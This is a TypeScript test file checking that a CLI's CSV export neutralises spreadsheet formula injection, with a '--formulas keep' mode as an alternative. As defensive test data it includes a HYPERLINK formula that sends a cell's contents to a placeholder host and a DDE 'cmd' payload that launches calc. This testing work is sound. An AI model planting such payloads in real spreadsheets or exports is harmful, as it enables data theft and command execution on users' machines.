import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Plan } from "@parcomms/core";
import { plansFromTables, tablesFromCsv } from "@parcomms/formats";
import { plan003 } from "@parcomms/sample-data";
import { afterAll, describe, expect, it } from "vitest";
import { captureIo } from "../_testing/draftPlanFile";
import { exportCommand } from "./exportCommand";

const tmp = mkdtempSync(join(tmpdir(), "parcomms-export-"));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

/** Starts a spreadsheet runs as a formula (OWASP "CSV injection"), then two texts that must come back as written. */
const FORMULAS = [
  '=HYPERLINK("http://example.invalid/?q="&A1,"Xem")',
  "+84 912 345 678 ",
  "-2+3+cmd|' /C calc'!A0 ",
  "@SUM(1,2) ",
  "\tTuyên truyền ",
  "\rTuyên truyền ",
  "-2",
];

// 003 (xã Gia Tân) with its title, its offices' names and its activities' titles and sub-task texts
// starting with each of FORMULAS in turn.
const plan: Plan = structuredClone(plan003);
plan.title = `${FORMULAS[0]}${plan.title}`;
plan.offices.forEach((office, i) => {
  office.name = `${FORMULAS[i % FORMULAS.length]}${office.name}`;
});
plan.activities.forEach((activity, i) => {
  activity.title = `${FORMULAS[(i + 1) % FORMULAS.length]}${activity.title}`;
  activity.subtasks?.forEach((subtask, j) => {
    subtask.text = `${FORMULAS[(i + j + 2) % FORMULAS.length]}${subtask.text}`;
  });
});
const planFile = join(tmp, "plan.json");
writeFileSync(planFile, JSON.stringify(plan));

/** The cells of RFC 4180 text as a spreadsheet sees them (quotes removed, "" unescaped). */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i < csv.length) {
    let cell = "";
    if (csv[i] === '"') {
      for (i++; i < csv.length; i++) {
        if (csv[i] === '"' && csv[i + 1] === '"') cell += csv[i++];
        else if (csv[i] === '"') break;
        else cell += csv[i];
      }
      i++;
    } else {
      while (i < csv.length && csv[i] !== "," && csv[i] !== "\n") cell += csv[i++];
    }
    cells.push(cell);
    i++; // the comma or line feed after the cell
  }
  return cells;
}

async function exportCsv(...options: string[]): Promise<Record<string, string>> {
  const out = mkdtempSync(join(tmp, "out-"));
  const io = captureIo(tmp);
  expect(
    await exportCommand.run({
      io,
      language: "en",
      args: [planFile, "--format", "csv", "--out", out, ...options],
    }),
  ).toBe(0);
  return Object.fromEntries(readdirSync(out).map((name) => [name, readFileSync(join(out, name), "utf8")]));
}

describe("export --format csv and formula cells", () => {
  it("by default starts no cell with = + - @, tab or CR, and the tables read back give the plan exactly", async () => {
    const files = await exportCsv();
    const cells = Object.values(files).flatMap(cellsOf);
    for (const formula of FORMULAS) expect(cells.some((cell) => cell.startsWith(`'${formula}`))).toBe(true);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(plansFromTables(tablesFromCsv(files))).toStrictEqual([plan]);
  });

  it("with --formulas keep writes text as it is (for pandas, R, DuckDB), read back exactly too", async () => {
    const files = await exportCsv("--formulas", "keep");
    const cells = Object.values(files).flatMap(cellsOf);
    expect(cells).toContain(`+84 912 345 678 ${plan003.offices[1]?.name}`);
    expect(cells).toContain(`-2${plan003.offices[6]?.name}`);
    expect(plansFromTables(tablesFromCsv(files))).toStrictEqual([plan]);
  });

  it("refuses another --formulas value with usage.bad-choice", async () => {
    await expect(
      exportCommand.run({
        io: captureIo(tmp),
        language: "en",
        args: [planFile, "--format", "csv", "--out", tmp, "--formulas", "strip"],
      }),
    ).rejects.toMatchObject({ code: "usage.bad-choice" });
  });
});
